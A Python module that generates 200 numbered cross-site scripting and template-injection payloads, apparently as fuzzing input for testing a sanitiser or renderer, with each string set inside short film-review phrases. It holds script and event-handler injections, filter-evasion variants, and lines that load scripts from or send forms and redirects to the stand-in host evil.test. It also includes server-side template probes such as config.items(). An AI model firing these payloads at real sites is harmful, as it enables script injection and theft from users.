"""Two hundred pieces of markup and script, each with a number of its own so that no two are alike."""

from itertools import product

_SCRIPTS = (
    "<script>alert(NUMBER)</script>",
    "</title><script>alert(NUMBER)</script>",
    "</style><script>alert(NUMBER)</script>",
    "</text></svg><script>alert(NUMBER)</script>",
    "</desc><script>alert(NUMBER)</script>",
    "--><script>alert(NUMBER)</script><!--",
    "]]><script>alert(NUMBER)</script><![CDATA[",
    "<scr<script>ipt>alert(NUMBER)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.test/NUMBER.js></SCRIPT>",
    "<script\x0c>alert(NUMBER)</script\x0b>",
    "\uff1cscript\uff1ealert(NUMBER)\uff1c/script\uff1e",
    "&lt;script&gt;alert(NUMBER)&lt;/script&gt;",
    "&#60;script&#62;alert(NUMBER)&#x3c;/script&#x3e;",
    "<script>{{NUMBER*7}}</script>",
    "\u202e>tpircs/<(NUMBER)trela>tpircs<",
)
_ELEMENTS = (
    "<img src=xNUMBER onerror=alert(1)>",
    "<svg onload=alert(NUMBER)>",
    "<svg><animate onbegin=alert(NUMBER) attributeName=x dur=1s>",
    "<iframe src=javascript:alert(NUMBER)></iframe>",
    "<a href='javascript:alert(NUMBER)'>x</a>",
    "<body onload=alert(NUMBER)>",
    "<form action=https://evil.test/NUMBER><input name=q></form>",
    "<link rel=stylesheet href=https://evil.test/NUMBER.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/NUMBER'>",
    "<base href=https://evil.test/NUMBER/>",
    "<object data=xNUMBER></object><embed src=x>",
    "<style>*{background:url(https://evil.test/NUMBER)}</style>",
    "<details open ontoggle=alert(NUMBER)>",
    "<math><mtext></mtext><mglyph><style></math><img src=xNUMBER onerror=alert(1)>",
    "<table><tr><td>NUMBER</table></section></main></body></html><p>after",
)
_ATTRIBUTES = (
    "' onmouseover='alert(NUMBER)",
    '" onmouseover="alert(NUMBER)" x="',
    '" autofocus onfocus=alert(NUMBER) x="',
    "` onclick=`alert(NUMBER)",
    "/onmouseover=alert(NUMBER)//",
    '"><img src=xNUMBER onerror=alert(1)>',
    "'><svg/onload=alert(NUMBER)>",
    "xNUMBER' style='background:red",
    "javascript:alert(NUMBER)",
    "data:text/html,<script>alert(NUMBER)</script>",
)
_TEMPLATES = (
    "{{7*NUMBER}}",
    "{{config.items()}} NUMBER",
    "{{''.__class__.__mro__[NUMBER]}}",
    "{% for x in range(NUMBER) %}<i>{% endfor %}",
    "{# NUMBER #}",
    "${7*NUMBER}",
    "#{7*NUMBER}",
    "<%= 7*NUMBER %>",
    "$\\frac{1}{NUMBER}$",
    "$\\sum_{i}^{NUMBER$ {unclosed",
    "%s%nNUMBER%(x)s",
)
_PLACES = ("HERE", "a film HERE", "HERE was good", '"HERE"')


def payloads() -> list[str]:
    """All of them."""
    patterns = [*_SCRIPTS, *_ELEMENTS, *_ATTRIBUTES, *_TEMPLATES]
    placed = [place.replace("HERE", pattern) for place, pattern in product(_PLACES, patterns)]
    return [payload.replace("NUMBER", str(number)) for number, payload in enumerate(placed[:200], 1)]
